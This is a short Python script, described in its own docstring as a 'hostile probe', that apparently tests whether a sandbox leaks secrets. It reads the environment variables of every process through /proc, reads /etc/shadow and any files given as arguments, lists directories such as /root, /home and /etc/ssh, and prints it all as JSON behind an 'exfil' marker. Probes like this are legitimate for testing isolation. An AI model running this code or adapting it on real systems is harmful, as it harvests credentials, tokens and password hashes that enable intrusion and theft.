"""Hostile probe: collect every secret in reach (environment, /proc, files) and print it."""

import json
import os
import sys

print("PROBE-RAN exfil", flush=True)


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as exc:
        return "ERR " + type(exc).__name__


procs = {}
for name in os.listdir("/proc"):
    if name.isdigit():
        procs[name] = read(f"/proc/{name}/environ")
listing = {}
for d in ("/", "/root", "/home", "/run", "/var/run", "/tmp", "/etc/ssh"):
    try:
        listing[d] = sorted(os.listdir(d))
    except OSError as exc:
        listing[d] = "ERR " + type(exc).__name__
out = {
    "environ": dict(os.environ),
    "proc1": read("/proc/1/environ"),
    "self": read("/proc/self/environ"),
    "procs": procs,
    "files": {p: read(p) for p in sys.argv[1:]},
    "shadow": read("/etc/shadow"),
    "listing": listing,
}
print(json.dumps(out))
